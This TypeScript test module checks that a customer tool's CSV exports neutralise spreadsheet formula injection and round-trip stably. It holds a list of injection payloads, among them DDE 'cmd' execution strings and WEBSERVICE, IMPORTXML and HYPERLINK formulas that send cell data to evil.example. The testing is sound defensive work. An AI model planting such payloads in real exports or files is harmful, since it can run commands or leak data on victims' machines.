/**
 * S5: CSV out. Hostile cells (what spreadsheets run as formulas, behind blanks, quotes, separators, breaks, full-width signs and
 * invisible characters) are written by every export there is, and the CSV is read as a spreadsheet reads it, by a reader that
 * shares nothing with the writer. A cell that begins as a formula is bad; a plain number is none. Then what was exported is
 * imported and exported again: the bytes must be the same.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { newPerson } from '../../../core/customer/person.ts';
import { customerId, decisionId } from '../../../core/ids.ts';
import { newContact } from '../../../core/message/contact.ts';
import { runCli } from '../../../cli/runCli.ts';
import { connectWith } from '../../../cli/transports/connect.ts';
import { csvLine } from '../../../cli/export/csv.ts';
import { LocalApi } from '../../../local/api/localApi.ts';
import { runJobHere } from '../../../local/jobs/job.ts';
import { openWorkspace } from '../../../local/workspace/openWorkspace.ts';
import { aDecision } from '../../support/builders.ts';

const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '＝',
  '＋',
  '－',
  '＠',
  '=\u0000',
  '\u00a0=',
  '\u200b=',
  ' =',
  '"=',
  ',=',
  ';=',
  '|=',
  "'=",
  '\ufeff=',
];
const BODIES = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example","click")',
  'SUM(1+1)*cmd|x!A1',
  '1+1',
  'WEBSERVICE("https://evil.example/"&A1)',
  'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  '2+5+cmd|x!A0,"quoted"',
  '@SUM(1)\n=1+1',
  '名字',
];

/** A spreadsheet's formula: what a cell begins with, once blanks nobody sees are passed over. */
const RUNS = /^[\s\p{Cc}\p{Cf}]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u;
const IS_NUMBER = /^[+-]?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?$/;

/** Reads RFC 4180, character by character. */
export function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let [row, cell, quoted]: [string[], string, boolean] = [[], '', false];
  for (let at = 0; at < text.length; at += 1) {
    const char = text[at] ?? '';
    if (quoted && char === '"' && text[at + 1] === '"') {
      cell += '"';
      at += 1;
    } else if (char === '"') quoted = !quoted;
    else if (!quoted && char === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && char === '\r' && text[at + 1] === '\n') {
      rows.push([...row, cell]);
      [row, cell] = [[], ''];
      at += 1;
    } else cell += char;
  }
  return cell === '' && row.length === 0 ? rows : [...rows, [...row, cell]];
}

function isFormula(cell: string): boolean {
  return RUNS.test(cell) && !IS_NUMBER.test(cell);
}

/** Every start before every body, many times over with a number of their own. */
export function hostileCells(count: number, seed: number): string[] {
  return Array.from({ length: count }, (_, place) => {
    const start = STARTS[(place + seed) % STARTS.length] ?? '=';
    const body = BODIES[Math.floor(place / STARTS.length) % BODIES.length] ?? '1';
    return `${start}${body}${place}`;
  });
}

/** Cells that a spreadsheet would run, of those written straight by the one function all exports write with. */
export function badCells(cells: readonly string[]): number {
  const rows = readCsv(cells.map((cell) => csvLine([cell, 'x'])).join(''));
  if (rows.length !== cells.length) throw new Error(`${cells.length} rows were written, ${rows.length} read`);
  return rows.filter(([cell = '']) => isFormula(cell)).length;
}

interface Exported {
  readonly customers: string;
  readonly suppressions: string;
  readonly ledger: string;
}

/** A shop whose every text is hostile, and its exports by the command line. */
class HostileShop {
  readonly dir = mkdtempSync(join(tmpdir(), 'perennial-s5-'));

  private get data(): string {
    return join(this.dir, 'data');
  }

  async fill(cells: readonly string[], now: number): Promise<void> {
    const { store, container, close } = await openWorkspace({
      dataDir: this.data,
      name: 'main',
      create: true,
    });
    const plain = (cell: string) =>
      Array.from(cell)
        .filter((sign) => sign >= ' ')
        .join('')
        .trim()
        .slice(0, 100);
    for (const [place, cell] of cells.entries()) {
      const id = customerId(`${plain(cell)}-${place}`);
      const email = `a${place}@shop.example`;
      const key = container.addressKeyOf('email', email);
      const told = { ...newPerson(id, now), name: plain(cell), email, traits: { note: cell } };
      const change = {
        topic: plain(cell),
        channel: 'email',
        state: 'granted',
        at: now,
        source: cell,
        wording: cell,
        basis: 'express',
        by: cell,
        confirmed: true,
      } as const;
      await store.importPeople([
        { person: told, consents: [{ contactKey: key, change }], addresses: [{ contactKey: key, at: now }] },
      ]);
      const known = (await store.loadContacts([key])).get(key) ?? newContact(key);
      const suppression = { why: 'manual', at: now, source: plain(cell) } as const;
      await store.changeContacts({
        contacts: [
          { contact: { ...known, version: known.version + 1, suppression }, expectedVersion: known.version },
        ],
        facts: [],
        at: now,
      });
      const decision = aDecision({
        id: decisionId(`${id}/hostile`),
        customerId: id,
        nodeId: cell,
        outcome: 'failed',
        dueAt: null,
        reason: cell,
        evidence: { said: cell },
      });
      await store.commitStep({ enrolments: [], cancellations: [], facts: [], decisions: [decision] });
    }
    await close();
  }

  private async command(...argv: string[]): Promise<string> {
    const out = join(this.dir, 'out.csv');
    rmSync(out, { force: true });
    const code = await runCli([...argv, '--data', this.data, '--out', out], surroundings(this.dir));
    if (code !== 0) throw new Error(`${argv.join(' ')}: exit ${code}`);
    return readFileSync(out, 'utf8');
  }

  async exports(): Promise<Exported> {
    return {
      customers: await this.command('customers', 'export', '--format', 'csv'),
      suppressions: await this.command('suppressions', 'export'),
      ledger: await this.command('ledger', 'export', '--format', 'csv'),
    };
  }

  /** Imports what was exported over what is there. */
  async importBack({ customers, suppressions }: Exported): Promise<void> {
    const api = new LocalApi({ dataDir: this.data, workspace: 'main', runJob: runJobHere });
    try {
      for (const [kind, text, options] of [
        [
          'customers',
          customers,
          { map: 'id=id,email=email,phone=phone,since=knownSince,traits=traits,consents=consents' },
        ],
        ['suppressions', suppressions, {}],
      ] as const) {
        const file = join(this.dir, `${kind}.csv`);
        writeFileSync(file, text);
        const answer = await api.request({
          method: 'POST',
          path: `/v1/imports/${kind}`,
          body: { file, ...options },
        });
        if (answer.status !== 200) throw new Error(JSON.stringify(answer.body));
      }
    } finally {
      await api.close();
    }
  }

  remove(): void {
    rmSync(this.dir, { recursive: true, force: true });
  }
}

function surroundings(dir: string): Parameters<typeof runCli>[1] {
  const nobody = { isTty: false, columns: 80, write: () => Promise.resolve() };
  const openFolder = async ({ dataDir, workspace }: { dataDir: string; workspace: string | null }) => {
    const api = new LocalApi({ dataDir, workspace, runJob: runJobHere });
    return {
      request: (request: Parameters<LocalApi['request']>[0]) => api.request(request),
      close: () => api.close(),
    };
  };
  return {
    environment: {},
    workingDir: dir,
    version: 'test',
    stdout: nobody,
    stderr: nobody,
    askPerson: null,
    connect: connectWith(openFolder),
    serve: () => Promise.reject(new Error('nothing is served')),
    runDemo: () => Promise.reject(new Error('there is no demonstration')),
    stopRequested: () => Promise.resolve(),
  };
}

export interface CsvRow {
  /** Hostile cells written. */
  readonly cells: number;
  readonly bad: number;
  /** Cells of whole exports that a spreadsheet would run. */
  readonly badInExports: number;
  readonly cellsInExports: number;
  /** Exports whose bytes changed by an import of what was exported. */
  readonly unstable: readonly string[];
}

export async function hostileExports(seed: number, count: number, people: number): Promise<CsvRow> {
  const bad = badCells(hostileCells(count, seed));
  const shop = new HostileShop();
  try {
    await shop.fill(hostileCells(people, seed), Date.parse('2026-01-05T10:00:00Z'));
    const first = await shop.exports();
    const cells = Object.values(first).flatMap((text) => readCsv(text).flat());
    await shop.importBack(first);
    const second = await shop.exports();
    const unstable = (['customers', 'suppressions', 'ledger'] as const).filter(
      (name) => first[name] !== second[name],
    );
    return {
      cells: count,
      bad,
      badInExports: cells.filter(isFormula).length,
      cellsInExports: cells.length,
      unstable,
    };
  } finally {
    shop.remove();
  }
}

export async function run({
  seed,
  full,
}: {
  seed: number;
  full: boolean;
}): Promise<{ measured: string; runs: number; pass: boolean }> {
  const { cells, bad, badInExports, cellsInExports, unstable } = await hostileExports(
    seed,
    full ? 1_000_000 : 100_000,
    full ? 2_000 : 200,
  );
  const stable = unstable.length === 0 ? 'stable' : `${unstable.join(', ')} not stable`;
  return {
    measured: `${bad + badInExports} of ${cells + cellsInExports} cells run as formulas; import → export ${stable}`,
    runs: cells + cellsInExports,
    pass: bad + badInExports === 0 && unstable.length === 0,
  };
}
